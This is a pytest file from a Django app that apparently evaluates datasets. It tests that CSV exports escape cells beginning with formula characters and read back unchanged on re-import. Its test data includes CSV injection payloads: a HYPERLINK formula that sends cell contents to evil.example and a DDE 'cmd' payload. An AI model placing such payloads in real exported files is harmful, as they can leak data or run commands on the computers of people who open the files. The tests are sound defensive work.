"""No CSV the app writes starts a cell with = + - @ tab or CR (CSV injection): the dataset
export, the run-calls export and the reports' CSV all go through apps/csv_cells.py."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from apps.analysis.reports.base import Report, Section, Table
from apps.corpus.importing import items_import
from apps.corpus.models import SourceItem
from apps.csv_cells import FORMULA_STARTS, PLAIN_NUMBER, safe_cell, unescape_cell
from apps.judging.models import Judge, JudgeCall
from tests.conftest import ROOT
from tests.judging.conftest import demo as demo  # the shared fixture
from tests.judging.conftest import new_run, work

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str) -> None:
    risky = [
        c for c in cells(text) if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)
    ]
    assert not risky, risky


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_unchanged(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", [-0.25, 3, "-0.25", "+3", "-1e-05", "plain", "'quoted", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value
    assert unescape_cell(str(value)) == str(value)


# apps/csv_cells.py is the one place that builds a csv writer.
SAFE_HELPERS = {"csv_cells.py"}


def test_every_csv_writer_in_the_app_is_the_safe_one():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("apps", "workers", "config")
        for path in (ROOT / folder).rglob("*.py")
        if pattern.search(path.read_text()) and path.name not in SAFE_HELPERS
    ]
    assert not offenders, f"write CSV through apps.csv_cells: {offenders}"


@pytest.mark.django_db
def test_dataset_export_neutralises_formulas_and_imports_back_unchanged(
    catalog, client, researcher, tmp_path
):
    lines = [
        {"id": f"f{n}", "original": value, "source": value, "perturbations": []}
        for n, value in enumerate(FORMULAS)
    ]
    path = tmp_path / "formulas.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    items_import(path=path, dataset_name="formulas", owner=researcher)
    dataset = SourceItem.objects.first().dataset
    client.force_login(researcher)
    response = client.get(f"/api/v1/datasets/{dataset.pk}/export/?file_format=csv")
    exported = b"".join(response.streaming_content).decode()
    assert_no_formula(exported)
    again = Path(tmp_path / "again.csv")
    again.write_text(exported, newline="")
    items_import(path=again, dataset_name="round trip", owner=researcher)
    back = SourceItem.objects.filter(dataset__name="round trip")
    assert set(back.values_list("original", "source")) == {(v, v) for v in FORMULAS}


@pytest.mark.django_db
def test_run_calls_export_neutralises_formulas(client, demo):
    run = work(new_run(demo, Judge.objects.get(name="BLEU")))
    JudgeCall.objects.filter(run=run).update(raw_response=FORMULAS[0], error=FORMULAS[3])
    client.force_login(run.created_by)
    response = client.get(f"/judging/runs/{run.pk}/calls.csv")
    exported = b"".join(response.streaming_content).decode()
    assert "'" + FORMULAS[0] in cells(exported)
    assert_no_formula(exported)


def test_report_csv_neutralises_formulas_but_keeps_numbers():
    table = Table("t", ["name", "delta"], [[value, -0.5] for value in FORMULAS])
    report = Report("r", "R", "study", [Section("s", tables=[table])])
    for text in (report.table_csv("t"), report.table_csv()):
        assert_no_formula(text)
        assert "-0.5" in cells(text)
